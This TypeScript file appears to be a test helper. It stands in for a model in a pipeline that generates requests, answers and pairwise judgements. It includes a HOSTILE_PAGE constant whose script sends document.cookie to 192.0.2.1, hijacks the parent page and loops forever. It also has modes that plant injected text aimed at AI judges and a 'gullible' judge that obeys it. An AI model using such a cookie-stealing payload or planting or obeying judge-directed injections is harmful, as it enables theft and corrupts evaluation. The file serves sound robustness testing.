import { hashOf } from '../../src/core/hash.ts'
import { createRng } from '../../src/core/rng.ts'
import type { Brief, BriefEdit, BriefFamily } from '../../src/models/brief.ts'
import type { Behaviour } from './behaviours.ts'
import { INJECTIONS, VEILED_INJECTIONS } from './injections.ts'

/** Answers the prompts of generation out of built-in Briefs: it knows what it asked for, and so what every answer of its own is worth. */
export interface BriefMind {
  answer(asked: { readonly system: string; readonly prompt: string }, behaviour: Behaviour): string
}

interface Remembered {
  readonly brief: Brief
  readonly edits: readonly BriefEdit[]
}

const MOST_REQUIREMENTS = 10
const HOSTILE_PAGE = `<!doctype html><html><body><h1>Hello</h1><script>
fetch('http://192.0.2.1/' + document.cookie)
parent.document.body.innerHTML = 'taken'
top.location = 'http://192.0.2.1/'
for (;;) document.title += 'x'
</script></body></html>`

export function createBriefMind(families: readonly BriefFamily[]): BriefMind {
  const briefs: Brief[] = []
  const answers = new Map<string, Remembered>()

  function instruct(system: string, prompt: string): string {
    const rng = createRng(hashOf(prompt)).fork(String(briefs.length))
    const persona = /^For: (.*)$/m.exec(prompt)?.[1] ?? 'a friend'
    const offered = families.filter(({ kind }) => system.includes(`- "${kind}":`))
    const brief = rng.pick(offered.length > 0 ? offered : families).draw(rng, { persona, prefer: [] })
    briefs.push(brief)
    const [opening, closing] = frameOf(brief)
    return JSON.stringify({
      kind: brief.kind,
      domain: brief.domain.toLowerCase().replace(/[^a-z -]/g, ' '),
      title: brief.title,
      opening,
      requirements: asked(brief).map(({ name, kind, words, check }) => ({ name: plain(name), kind, words, check })),
      closing,
    })
  }

  function deviate(prompt: string): string {
    const before = /^The old sentence: (.*)$/m.exec(prompt)?.[1]
    const family = /^Edit family: (\w+)/m.exec(prompt)?.[1]
    const worse = briefs.flatMap(({ requirements }) => requirements).find(({ words }) => words === before)?.worse ?? []
    const chosen = worse.find((deviation) => deviation.family === family) ?? worse[0]
    return JSON.stringify({ sentence: chosen?.words ?? 'It is something else altogether.' })
  }

  function respond(prompt: string, behaviour: Behaviour): string {
    const lines = new Set(prompt.split('\n'))
    const found = (brief: Brief) => brief.requirements.filter(({ words }) => lines.has(`- ${words}`)).length
    const brief = briefs.filter((candidate) => prompt.startsWith(frameOf(candidate)[0])).sort((a, b) => found(b) - found(a))[0]
    if (!brief) return 'I do not know what this is about.'
    const edits = editsOf(brief, lines)
    const followed = behaviour === 'not-worse' ? editsOf(brief, new Set(brief.requirements.map(({ words }) => `- ${words}`))) : edits
    const spoilt = behaviour === 'fails-own-checks' ? [...followed, { requirement: brief.requirements.at(-1)!.name }] : followed
    const made = behaviour === 'hostile-page' ? HOSTILE_PAGE : brief.respond(spoilt)
    const content = behaviour === 'injection' ? withInjection(made, INJECTIONS[answers.size % INJECTIONS.length]!) : made
    answers.set(made.trim(), { brief, edits: spoilt })
    return `<plan>One part for each sentence of the request.</plan>\n${wrapped(brief.kind, content)}`
  }

  function judge(prompt: string, behaviour: Behaviour): string {
    const requirement: string = JSON.parse(/^Requirement: (.*)$/m.exec(prompt)![1]!)
    const mark = /^Mark: (\w+)\|$/m.exec(prompt)![1]!
    const [first, second] = ['First piece:', 'Second piece:'].map((head) => pieceAfter(prompt, head, mark))
    const say = (better: string, reason: string) => JSON.stringify({ reason, better })
    if (behaviour === 'first-always') return say('first', 'the first one, as ever')
    if (behaviour === 'gullible') {
      const told = [first!, second!].findIndex((piece) =>
        [...INJECTIONS, ...VEILED_INJECTIONS].some((words) => piece.includes(firstLine(words))),
      )
      if (told >= 0) return say(told === 0 ? 'first' : 'second', 'it told me to')
    }
    const [one, other] = [first!, second!].map((piece) => meets(answers.get(withoutInjection(piece).trim()), requirement))
    return say(one === other ? 'neither' : one ? 'first' : 'second', 'as the request was written')
  }

  return {
    answer({ system, prompt }, behaviour) {
      if (prompt.startsWith('Invent one request.')) return instruct(system, prompt)
      if (prompt.includes('\nEdit family: ')) return deviate(prompt)
      if (prompt.startsWith('Requirement: ')) return judge(prompt, behaviour)
      return respond(prompt, behaviour)
    },
  }
}

const asked = (brief: Brief) => brief.requirements.slice(0, MOST_REQUIREMENTS)
const plain = (name: string) =>
  name
    .toLowerCase()
    .replace(/[^a-z0-9 -]/g, ' ')
    .slice(0, 40)

/** What stands before and after the requirements in a brief's instruction. */
function frameOf(brief: Brief): [string, string] {
  const parts = brief.instruct([]).split('\n\n')
  return [parts[0]!, parts.slice(1).join(' ')]
}

function editsOf(brief: Brief, lines: ReadonlySet<string>): BriefEdit[] {
  return brief.requirements.flatMap(({ name, words, worse }) => {
    if (lines.has(`- ${words}`)) return []
    const index = worse.findIndex((deviation) => lines.has(`- ${deviation.words}`))
    return [index < 0 ? { requirement: name } : { requirement: name, worse: index }]
  })
}

function meets(answer: Remembered | undefined, requirement: string): boolean {
  const asked = answer?.brief.requirements.find(({ words }) => words === requirement)
  return asked !== undefined && !answer!.edits.some((edit) => edit.requirement === asked.name)
}

function wrapped(kind: Brief['kind'], content: string): string {
  if (kind === 'html') return `Here is the page:\n\n\`\`\`html\n${content}\n\`\`\``
  return kind === 'code' ? `\`\`\`js\n${content}\n\`\`\`` : `<answer>${content}</answer>`
}

/** The content with words in it that speak to its judges. */
export function withInjection(content: string, words: string): string {
  const end = content.search(/(<\/body>)?\s*<\/html>\s*$/i)
  const at = end < 0 ? content.length : end
  return `${content.slice(0, at)}<div>${words}</div>${content.slice(at)}`
}

function withoutInjection(piece: string): string {
  return [...INJECTIONS, ...VEILED_INJECTIONS].reduce((text, words) => text.replace(`<div>${words}</div>`, ''), piece)
}

const firstLine = (words: string) => words.split(/[\n\u2028]/)[0]!

function pieceAfter(prompt: string, head: string, mark: string): string {
  const lines = prompt.split('\n')
  const piece: string[] = []
  for (let at = lines.indexOf(head) + 1; lines[at]?.startsWith(`${mark}| `); at++) piece.push(lines[at]!.slice(mark.length + 2))
  return piece.join('\n')
}
